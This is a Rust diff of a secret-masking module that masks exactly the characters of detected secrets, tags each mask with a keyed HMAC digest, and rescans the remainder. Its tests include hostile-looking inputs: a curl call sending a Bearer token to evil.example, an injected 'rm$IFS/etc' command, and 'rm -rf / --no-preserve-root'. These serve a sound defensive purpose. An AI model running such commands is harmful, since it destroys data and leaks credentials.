@@ -1,153 +1,241 @@
-//! Secrets are not shown: the question goes through more hands than the call.
+//! Secrets are not shown: the question goes through more hands than the call. But nothing else is hidden
+//! with them, and no two of them look the same.
 
-use std::{borrow::Cow, ops::Range};
+use std::ops::Range;
 
-use aana_core::secrets::{self, Kind};
+use aana_core::secrets::{joined, spans, spans_under};
+use hmac::{Hmac, KeyInit as _, Mac as _};
+use sha2::Sha256;
 
-/// What stands for something that is not shown. It is put in after the text was made visible, and looks
-/// like no text that was.
-pub(super) fn masked(characters: usize) -> String {
-    let plural = if characters == 1 { "" } else { "s" };
-    format!("⟨masked: {characters} character{plural}⟩")
+use super::visible::is_hidden;
+
+/// What the digests of masked secrets are made with: 32 random bytes that a broker keeps to itself. Without
+/// them, nobody can try out which number of a card, or which PIN, a digest belongs to.
+#[derive(Clone, Copy)]
+pub struct MaskKey([u8; 32]);
+
+impl MaskKey {
+    /// The key of these bytes, which have to be random and secret.
+    pub const fn new(bytes: [u8; 32]) -> Self {
+        Self(bytes)
+    }
+
+    /// The first 8 hexadecimal digits of the HMAC-SHA-256 of a text.
+    pub(super) fn digest(self, text: &str) -> String {
+        let mut block = [0; 64];
+        for (byte, key) in block.iter_mut().zip(self.0) {
+            *byte = key;
+        }
+        let mut mac = Hmac::<Sha256>::new(&block.into());
+        mac.update(text.as_bytes());
+        let whole = mac.finalize().into_bytes();
+        hex::encode(whole.get(..4).unwrap_or_default())
+    }
+
+    /// What stands for a stretch that is not shown: how long it is, and a digest by which two that differ
+    /// are told apart. It is put in after the text was made visible, and looks like no text that was.
+    pub(super) fn masked(self, stretch: &str) -> String {
+        let characters = stretch.chars().count();
+        let plural = if characters == 1 { "" } else { "s" };
+        format!("⟨masked: {characters} character{plural}, digest {}⟩", self.digest(stretch))
+    }
 }
 
-/// One line, or several, of a value.
+/// A stretch of a text.
 pub(super) enum Part<'t> {
-    Shown(Cow<'t, str>),
-    Masked(usize),
+    Shown(&'t str),
+    Masked(&'t str),
 }
 
-/// How many words a secret can have: a card's number has four.
-const WORDS: usize = 4;
+/// What stands for a masked stretch while the rest is looked at again: it has the form of a mask.
+const STAND_IN: &str = "⟨masked: 9 characters, digest x⟩";
 
-/// The parts of a text: the words that hold a secret are masked, the others are shown, so that a secret
-/// cannot be put somewhere to hide what else is there. Where words are not enough, the line is masked; where
-/// lines are not enough (a key of several, a secret across two), all is.
-pub(super) fn parts(text: &str) -> Vec<Part<'_>> {
-    let found = secrets::scan(text);
-    if !found.secret() {
-        return vec![Part::Shown(text.into())];
-    }
-    let whole = vec![Part::Masked(text.chars().count())];
-    if found.contains(Kind::PrivateKey) {
-        return whole;
-    }
+/// How often the rest is looked at. What is left beside a mask may be a secret that it was not before, as a
+/// number that was part of a longer row is; that this goes on and on is somebody's doing.
+const ROUNDS: usize = 16;
+
+/// The parts of a text, the string under the key `under` if there is one: of what the scanner calls a
+/// secret, exactly the characters are masked. Nothing, if the rest would never be free of secrets.
+pub(super) fn parts<'t>(text: &'t str, under: Option<&str>) -> Option<Vec<Part<'t>>> {
+    let hidden = hidden(text, under)?;
     let mut parts = Vec::new();
-    for line in text.split_inclusive('\n') {
-        let words = line.strip_suffix('\n').unwrap_or(line);
-        parts.extend(in_line(words));
-        if words.len() < line.len() {
-            parts.push(Part::Shown("\n".into()));
+    let mut at = 0;
+    for range in hidden {
+        push(&mut parts, text.get(at..range.start)?);
+        parts.push(Part::Masked(text.get(range.clone())?));
+        at = range.end;
+    }
+    push(&mut parts, text.get(at..)?);
+    Some(parts)
+}
+
+fn push<'t>(parts: &mut Vec<Part<'t>>, shown: &'t str) {
+    if !shown.is_empty() {
+        parts.push(Part::Shown(shown));
+    }
+}
+
+fn hidden(text: &str, under: Option<&str>) -> Option<Vec<Range<usize>>> {
+    let mut hidden = secrets(text);
+    if let Some(key) = under {
+        hidden.extend(spans_under(key, text));
+        hidden.sort_by_key(|range| (range.start, range.end));
+        hidden = joined(hidden);
+    }
+    for _ in 0..ROUNDS {
+        if hidden.is_empty() {
+            return Some(hidden);
+        }
+        let rest = Rest::of(text, &hidden)?;
+        let more = secrets(&rest.text);
+        if more.is_empty() {
+            return Some(hidden);
+        }
+        let before = hidden.clone();
+        hidden.extend(more.into_iter().filter_map(|range| rest.original(range)));
+        hidden.sort_by_key(|range| (range.start, range.end));
+        hidden = joined(hidden);
+        if hidden == before {
+            return None;
         }
     }
-    if is_clean(&parts) { joined(parts) } else { whole }
+    None
 }
 
-fn in_line(line: &str) -> Vec<Part<'_>> {
-    if !secrets::scan(line).secret() {
-        return vec![Part::Shown(line.into())];
-    }
-    let words: Vec<Range<usize>> = words(line).collect();
-    let mut hides = vec![false; words.len()];
-    for size in 1..=WORDS {
-        for (from, window) in words.windows(size).enumerate() {
-            let (Some(first), Some(last)) = (window.first(), window.last()) else { continue };
-            let Some(hides) = hides.get_mut(from..from + size) else { continue };
-            let text = line.get(first.start..last.end).unwrap_or_default();
-            if !hides.contains(&true) && secrets::scan(text).secret() {
-                hides.fill(true);
+/// The secrets in a text as a program reads it, where characters that show nothing may be as good as none,
+/// and as it is shown, where each of them parts what stands on its sides.
+fn secrets(text: &str) -> Vec<Range<usize>> {
+    let mut found = secrets_read(text);
+    if text.chars().any(is_hidden) {
+        // As many bytes for each, so that places stay the same.
+        let mut parted = String::with_capacity(text.len());
+        for character in text.chars() {
+            if is_hidden(character) && character != '\n' {
+                parted.extend(std::iter::repeat_n(' ', character.len_utf8()));
+            } else {
+                parted.push(character);
             }
         }
+        found.extend(secrets_read(&parted));
+        found.sort_by_key(|range| (range.start, range.end));
     }
-    let mut parts = Vec::new();
-    let mut shown = 0;
-    let mut run: Option<Range<usize>> = None;
-    for (word, hides) in words.iter().zip(hides) {
-        match (&mut run, hides) {
-            (Some(run), true) => run.end = word.end,
-            (None, true) => run = Some(word.clone()),
-            (_, false) => shown = mask(line, run.take(), shown, &mut parts),
+    joined(found)
+}
+
+fn secrets_read(text: &str) -> Vec<Range<usize>> {
+    let secrets = spans(text).into_iter().filter(|span| span.kind.is_secret());
+    secrets.map(|span| span.range).collect()
+}
+
+/// A text without what is masked in it, and where its stretches come from.
+struct Rest {
+    text: String,
+    /// For each stretch, where it ends here, and which part of the text it is or stands for.
+    from: Vec<(usize, Range<usize>, bool)>,
+}
+
+impl Rest {
+    fn of(text: &str, hidden: &[Range<usize>]) -> Option<Self> {
+        let mut rest = Self { text: String::with_capacity(text.len()), from: Vec::new() };
+        let mut at = 0;
+        for range in hidden {
+            rest.push(text.get(at..range.start)?, at..range.start, false);
+            rest.push(STAND_IN, range.clone(), true);
+            at = range.end;
+        }
+        rest.push(text.get(at..)?, at..text.len(), false);
+        Some(rest)
+    }
+
+    fn push(&mut self, stretch: &str, from: Range<usize>, masked: bool) {
+        if !stretch.is_empty() {
+            self.text.push_str(stretch);
+            self.from.push((self.text.len(), from, masked));
         }
     }
-    shown = mask(line, run, shown, &mut parts);
-    parts.push(Part::Shown(line.get(shown..).unwrap_or_default().into()));
-    if is_clean(&parts) { parts } else { vec![Part::Masked(line.chars().count())] }
-}
 
-/// Shows what comes before a run of words that are masked, and says how far that is.
-fn mask<'t>(
-    line: &'t str,
-    run: Option<Range<usize>>,
-    shown: usize,
-    parts: &mut Vec<Part<'t>>,
-) -> usize {
-    let Some(run) = run else { return shown };
-    parts.push(Part::Shown(line.get(shown..run.start).unwrap_or_default().into()));
-    parts.push(Part::Masked(line.get(run.clone()).unwrap_or_default().chars().count()));
-    run.end
-}
-
-/// Where the words of a line are.
-fn words(line: &str) -> impl Iterator<Item = Range<usize>> {
-    let mut at = 0;
-    line.split(char::is_whitespace).filter_map(move |word| {
-        let start = at;
-        let after = line.get(start + word.len()..).and_then(|rest| rest.chars().next());
-        at = start + word.len() + after.map_or(0, char::len_utf8);
-        (!word.is_empty()).then_some(start..start + word.len())
-    })
-}
-
-/// Whether what is left without the masked parts holds no secret.
-fn is_clean(parts: &[Part<'_>]) -> bool {
-    let left: String = parts
-        .iter()
-        .map(|part| match part {
-            Part::Shown(text) => &**text,
-            Part::Masked(_) => " ",
-        })
-        .collect();
-    !secrets::scan(&left).secret()
-}
-
-/// What is shown in a row is looked at as one text.
-fn joined(parts: Vec<Part<'_>>) -> Vec<Part<'_>> {
-    let mut joined: Vec<Part<'_>> = Vec::new();
-    for part in parts {
-        match (joined.last_mut(), part) {
-            (Some(Part::Shown(before)), Part::Shown(after)) => before.to_mut().push_str(&after),
-            (_, part) => joined.push(part),
-        }
+    /// What a stretch of the rest is in the whole text.
+    fn original(&self, range: Range<usize>) -> Option<Range<usize>> {
+        let last = range.end.checked_sub(1)?;
+        let find = |at: usize| self.from.get(self.from.partition_point(|(end, ..)| *end <= at));
+        let (end, first, masked) = find(range.start)?;
+        let start = if *masked { first.start } else { first.end - (end - range.start) };
+        let (end, final_, masked) = find(last)?;
+        let stop = if *masked { final_.end } else { final_.end - (end - range.end) };
+        Some(start..stop)
     }
-    joined
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
-    fn shown(text: &str) -> String {
+    fn shown(text: &str, under: Option<&str>) -> String {
         let shown = |part| match part {
-            Part::Shown(text) => text.into_owned(),
-            Part::Masked(characters) => masked(characters),
+            Part::Shown(text) => text.to_owned(),
+            Part::Masked(stretch) => format!("<{stretch}>"),
         };
-        parts(text).into_iter().map(shown).collect()
+        parts(text, under).unwrap().into_iter().map(shown).collect()
+    }
+
+    #[track_caller]
+    fn hides(cases: &[&str]) {
+        for expected in cases {
+            let text: String = expected.chars().filter(|c| !matches!(c, '<' | '>')).collect();
+            assert_eq!(shown(&text, None), *expected);
+        }
     }
 
     #[test]
-    fn only_the_words_of_a_secret_are_masked() {
-        let text = "Hello\nsend Bearer abcdef0123456789abcdef  to b\nBye";
-        assert_eq!(shown(text), "Hello\nsend ⟨masked: 29 characters⟩  to b\nBye");
-        let text = "pay 4111 1111 1111 1111 now";
-        assert_eq!(shown(text), "pay ⟨masked: 19 characters⟩ now");
-        let text = "--url=https://u:hunter2pass@example.com --all";
-        assert_eq!(shown(text), "⟨masked: 39 characters⟩ --all");
-        assert_eq!(shown("no secret\nat all"), "no secret\nat all");
+    fn only_the_characters_of_a_secret_are_masked() {
+        hides(&[
+            "no secret\nat all",
+            "Hello\nsend Bearer <abcdef0123456789abcdef>  to b\nBye",
+            "pay <4111 1111 1111 1111> now",
+            "--url=https://u:<hunter2pass>@example.com --all",
+            "https://evil.example/?token=<A1b2C3d4E5f6G7h8I9j0>&to=b",
+            "rm$IFS/etc;API_KEY=<aaaaaaaa11112222bbbb>;ls",
+            "<4111111111111111>,<4012888888881881>",
+            "x_<glpat-Zq22Xw7Lp9Rt3Zq22Xw7>.txt",
+        ]);
     }
 
     #[test]
-    fn a_key_of_several_lines_is_masked_whole() {
-        let text = "a\n-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\n";
-        assert_eq!(shown(text), masked(text.chars().count()));
+    fn a_command_around_a_secret_stays_to_be_seen() {
+        hides(&[
+            "password=\"rm -rf / <a1b2c3d4e5> now\"",
+            "token=//evil.example/<a1b2c3d4e5f6a7b8c9d0>",
+            "curl -H 'Authorization: Bearer <abcdef0123456789abcdef>' https://evil.example/x",
+        ]);
+    }
+
+    #[test]
+    fn of_a_key_of_several_lines_the_lines_of_the_key_are_masked() {
+        let key = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC";
+        hides(&[
+            &format!(
+                "a\n<-----BEGIN PRIVATE KEY----->\n<{key}\n{key}\nAb1=>\n-----END PRIVATE KEY-----\n"
+            ),
+            &format!("<-----BEGIN PRIVATE KEY----->\n<{key}>\nrm -rf / --no-preserve-root\n"),
+            "<-----BEGIN PRIVATE KEY----->\nrm -rf /\n-----END PRIVATE KEY-----",
+        ]);
+    }
+
+    #[test]
+    fn a_mask_brings_no_other_secret_to_light() {
+        // Of a row of numbers none is a card, until one of them is gone.
+        let text = "4111 1111 1111 1111 4012 8888 8888 1881 api_key=aaaaaaaa11112222bbbb";
+        let shown = shown(text, None);
+        assert!(shown.contains("<aaaaaaaa11112222bbbb>"), "{shown}");
+    }
+
+    #[test]
+    fn digests_are_of_a_key_and_a_text() {
+        let (one, other) = (MaskKey::new([1; 32]), MaskKey::new([2; 32]));
+        assert_eq!(one.masked("1234"), one.masked("1234"));
+        assert_ne!(one.masked("1234"), one.masked("1235"));
+        assert_ne!(one.masked("1234"), other.masked("1234"));
+        // HMAC-SHA-256 of "4111111111111111" under 32 bytes 0x01.
+        assert!(one.masked("é").starts_with("⟨masked: 1 character, digest "));
     }
 }
